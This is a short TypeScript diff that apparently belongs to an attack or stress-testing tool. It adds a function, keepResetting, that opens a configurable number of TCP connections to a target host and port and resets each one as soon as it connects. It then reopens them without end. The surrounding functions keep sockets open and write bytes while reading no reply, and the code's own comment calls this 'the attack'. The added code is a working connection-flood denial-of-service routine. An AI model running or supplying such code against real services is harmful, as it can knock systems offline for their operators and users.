@@ -34,6 +34,20 @@ export function keepOpen(
   return sockets;
 }
 
+/** Opens connections and resets each as soon as it is open, as many at a time as the attack has. */
+export function keepResetting({ host, port, connections }: Target): void {
+  const open = () => {
+    const socket = connect({ host, port });
+    socket
+      .once('connect', () => socket.resetAndDestroy())
+      .on('error', () => undefined)
+      .once('close', () => setImmediate(open));
+  };
+  for (let count = 0; count < connections; count += 1) {
+    open();
+  }
+}
+
 /** Writes the bytes on each connection, and reads no answer. */
 export function writeUnread(target: Target, bytes: string): void {
   keepOpen(target, (socket) => {
